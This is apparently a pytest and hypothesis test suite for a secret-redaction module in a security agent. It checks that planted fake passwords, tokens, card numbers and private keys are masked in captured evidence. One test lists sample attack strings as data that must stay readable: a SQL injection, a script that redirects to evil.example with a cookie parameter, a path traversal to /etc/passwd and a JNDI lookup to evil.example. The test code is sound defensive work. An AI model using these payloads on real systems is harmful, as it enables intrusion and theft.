"""Evidence leaves the host: what must not be in it, and what must."""

import base64
import itertools
import random
import stat
import string
import time
from pathlib import Path

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from sockwarden.agent import redact

KEY = b"k" * redact.KEY_BYTES
RUN_BYTES = 12


def luhn_card(chance: random.Random) -> str:
    digits = [4, *(chance.randrange(10) for _ in range(14))]
    for check in range(10):
        total = sum(d if i % 2 else sum(divmod(2 * d, 10)) for i, d in enumerate([*digits, check]))
        if total % 10 == 0:
            return "".join(map(str, [*digits, check]))
    raise AssertionError


def looks_random(text: str) -> bool:
    """Well above the share of changes between small letters, capitals and digits that words
    have; a capital before a small letter is none."""
    changes = sum(
        (one.islower() and (other.isupper() or other.isdigit()))
        or (one.isupper() and other.isdigit())
        or (one.isdigit() and other.isalpha())
        for one, other in itertools.pairwise(text)
    )
    return changes >= max(3, 0.2 * len(text))


def token(chance: random.Random, size: int) -> str:
    return "".join(chance.choice(string.ascii_letters + string.digits) for _ in range(size))


def encoded(chance: random.Random, size: int) -> str:
    return base64.b64encode(chance.randbytes(size)).decode()


def private_key(chance: random.Random) -> tuple[str, str]:
    body = encoded(chance, 600)
    lines = "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
    return f"-----BEGIN PRIVATE KEY-----\n{lines}\n-----END PRIVATE KEY-----", lines


def planted(kind: str, chance: random.Random) -> tuple[str, str]:
    """A text and the secret in it."""
    word = "".join(chance.choice(string.ascii_lowercase) for _ in range(20))
    jwt = f"eyJ{token(chance, 30)}.eyJ{token(chance, 60)}.{token(chance, 43)}"
    card = luhn_card(chance)
    spaced = " ".join(card[i : i + 4] for i in range(0, 16, 4))
    key, body = private_key(chance)
    long_token = token(chance, 40)
    return {
        "json": (f'{{"user":"bob","password":"{word}"}}', word),
        "nested json": (f'{{"body":"{{\\"api_key\\":\\"{word}\\"}}"}}', word),
        "form": (f"user=bob&passwd={word}&x=1", word),
        "header": (f"Authorization: Bearer {word}\r\nHost: a", word),
        "cookie": (f"Cookie: theme=dark; favourite={word}; a=b\r\nHost: a", word),
        "yaml": (f"client_secret: {word}\nname: b", word),
        "url": (f"see postgres://bob:{word}@db.example/x", word),
        "jwt": (f"hello {jwt} bye", jwt),
        "card": (f"pay with {card} please", card),
        "spaced card": (f"pay with {spaced} 12/29 please", spaced),
        "cloud key": (f"id AKIA{long_token[:16].upper()} region", f"AKIA{long_token[:16].upper()}"),
        "token": (f"value {long_token} end", long_token),
        "base64": (f"blob {(blob := encoded(chance, 48))} end", blob),
        "private key": (f"here: {key} thanks", body),
        "e-mail": (f"mail {word}@example.org now", word),
    }[kind]


KINDS = [
    "json", "nested json", "form", "header", "cookie", "yaml", "url", "jwt", "card", "spaced card",
    "cloud key", "token", "base64", "private key", "e-mail",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(
    kind=st.sampled_from(KINDS),
    seed=st.integers(0, 1 << 40),
    before=st.integers(0, 5000),
    behind=st.integers(0, 900),
    shift=st.integers(-700, 1500),
    length=st.integers(0, 600),
    secret=st.booleans(),
)
def test_no_run_of_a_planted_secret_survives(
    kind: str, seed: int, before: int, behind: int, shift: int, length: int, secret: bool
) -> None:
    text, value = planted(kind, random.Random(seed))
    payload = ("word " * before)[:before].encode() + b"\n" + text.encode() + b"\n" + b"x " * behind
    start = before + shift
    shown = redact.evidence(payload, start, start + length, secret=secret, key=KEY)
    for at in range(len(value) - RUN_BYTES + 1):
        assert value[at : at + RUN_BYTES] not in shown


@settings(max_examples=150, deadline=None)
@given(kind=st.sampled_from(["jwt", "token", "base64", "private key", "card"]), data=st.data())
def test_secret_cut_by_the_end_of_the_capture_is_masked(kind: str, data: st.DataObject) -> None:
    text, value = planted(kind, random.Random(data.draw(st.integers(0, 1 << 40))))
    start = text.index(value[:8])
    payload = text[: data.draw(st.integers(start + 16, len(text)))].encode()
    # What happens to look like a word is not recognised, as the module says.
    assume(kind == "card" or looks_random(value[: len(payload) - start]))
    shown = redact.evidence(payload, 0, 10, secret=False, key=KEY)
    for at in range(len(value) - 16):
        assert value[at : at + 16] not in shown


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=3000), st.integers(-9, 4000), st.integers(-9, 4000), st.booleans())
def test_any_bytes_give_one_short_printable_line(
    payload: bytes, start: int, end: int, secret: bool
) -> None:
    shown = redact.evidence(payload, start, end, secret=secret, key=KEY)
    assert len(shown.encode()) <= redact.LIMIT_BYTES
    assert shown.isprintable()


@given(st.text(max_size=300))
def test_any_text_is_masked_without_error(value: str) -> None:
    assert redact.text(value).isprintable()


@given(st.binary(min_size=12, max_size=200), st.data())
def test_span_of_a_leak_rule_is_masked(payload: bytes, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(payload) - 1))
    end = data.draw(st.integers(start + 1, len(payload)))
    shown = redact.evidence(payload, start, end, secret=True, key=KEY)
    assert ":" in shown
    assert shown.count("<") >= 1


@pytest.mark.parametrize(
    "attack",
    [
        '{"q":"1\' OR 1=1 UNION SELECT name FROM users --"}',
        "<script>document.location='//evil.example/?c='</script>",
        "../../../../etc/passwd and ${jndi:ldap://evil.example/a}",
        "GET /api/v1/users/42/orders/getOrderDetails HTTP/1.1",
        "the author's opinion on shipping: fine",
        "größe ✓ in the middle",
    ],
)
def test_attack_stays_readable(attack: str) -> None:
    payload = attack.encode()
    assert redact.evidence(payload, 3, 9, secret=False, key=KEY) == attack


def test_span_is_shown_with_its_context() -> None:
    payload = b"a " * 2000 + b"needle" + b" b" * 2000
    shown = redact.evidence(payload, 4000, 4006, secret=False, key=KEY)
    assert "a needle b" in shown
    assert shown.startswith("…")
    assert shown.endswith("…")


def test_same_secret_gives_the_same_mask_on_one_host_only() -> None:
    payload = b"password=correct-horse;"
    first, again = (redact.evidence(payload, 0, 8, secret=False, key=KEY) for _ in range(2))
    assert first == again
    assert first.startswith("password=<secret:13:")
    assert first != redact.evidence(payload, 0, 8, secret=False, key=b"other")


def test_text_without_a_key_has_no_hash() -> None:
    assert redact.text("/chat?token=abcdef&room=7") == "/chat?token=<secret:6>&room=7"


@pytest.mark.parametrize(
    "payload",
    [
        b"-----BEGIN PRIVATE KEY-----" * 300,
        b"password" * 1000,
        b"1 " * 4000,
        b"eyJ" * 3000,
        b'"' * 8000,
        b"password=" + b"\\" * 8000,
        b"a" * 8000 + b"@",
        b"://" * 3000,
        b"cookie:" * 1000,
    ],
)
def test_hostile_payload_costs_little(payload: bytes) -> None:
    start = time.process_time()
    for at in (0, len(payload) // 2):
        redact.evidence(payload, at, at + 5, secret=False, key=KEY)
    assert time.process_time() - start < 0.5


def test_host_key_is_made_once_and_private(tmp_path: Path) -> None:
    key = redact.host_key(tmp_path)
    assert len(key) == redact.KEY_BYTES
    assert redact.host_key(tmp_path) == key
    assert stat.S_IMODE((tmp_path / "redaction.key").stat().st_mode) == 0o600


@pytest.mark.parametrize(
    ("target", "shown"),
    [
        ("/chat", "/chat"),
        ("/demo-2cf35b/ws/leak", "/demo-2cf35b/ws/leak"),
        ("/runCase?case=12&agent=Tester", "/runCase?case=12&agent=Tester"),
        ("/socket.io/?EIO=4&transport=websocket", "/socket.io/?EIO=4&transport=websocket"),
        ("/ws?token=hunter2horse", "/ws?token=<secret:12>"),
        ("/t/xK9dPq2LmZ7tRw4Yb8Nc/feed", "/t/<token:20>/feed"),
    ],
)
def test_a_target_shows_its_words_and_masks_its_secrets(target: str, shown: str) -> None:
    assert redact.target(target) == shown
